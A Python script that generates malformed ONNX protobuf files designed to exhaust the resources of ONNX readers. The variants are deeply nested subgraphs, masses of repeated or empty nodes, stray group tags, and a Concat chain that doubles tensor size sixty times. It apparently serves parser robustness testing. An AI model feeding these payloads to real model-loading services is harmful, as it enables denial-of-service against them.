#!/usr/bin/env python3
"""onnx_bomb.py KIND: bytes on stdout that want more of a reader of ONNX than
their size is worth: deep, repeated, empty, doubled."""
import sys


def varint(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def field(number, body):
    return varint(number << 3 | 2) + varint(len(body)) + body


def deep(n=100000):
    """Subgraphs within subgraphs, written from the inside."""
    parts, size = [], 0
    for _ in range(n):
        for number in (6, 5, 1):  # attribute.g, node.attribute, graph.node
            head = varint(number << 3 | 2) + varint(size)
            parts.append(head)
            size += len(head)
    body = b"".join(reversed(parts))
    return field(7, body)


def repeated():
    return field(7, field(1, b"")) * 60000


def empty():
    return field(7, field(1, b"") * 2000000)


def groups():
    return field(7, b"\x0b" * 100000)


def tensor_in():
    dim = field(1, b"") + field(1, b"\x08\x10")
    return field(11, field(1, b"x0") + field(2, field(
        1, b"\x08\x01" + field(2, dim))))


def doubled(n=60):
    """Each node joins the value before to itself."""
    nodes = b""
    for i in range(n):
        a = f"x{i}".encode()
        axis = field(5, field(1, b"axis") + b"\x18\x01\xa0\x01\x02")
        nodes += field(1, field(1, a) * 2 + field(2, f"x{i + 1}".encode())
                       + field(4, b"Concat") + axis)
    out = field(12, field(1, f"x{n}".encode()))
    return field(7, nodes + tensor_in() + out)


sys.stdout.buffer.write(b"\x08\x08" + globals()[sys.argv[1]]())
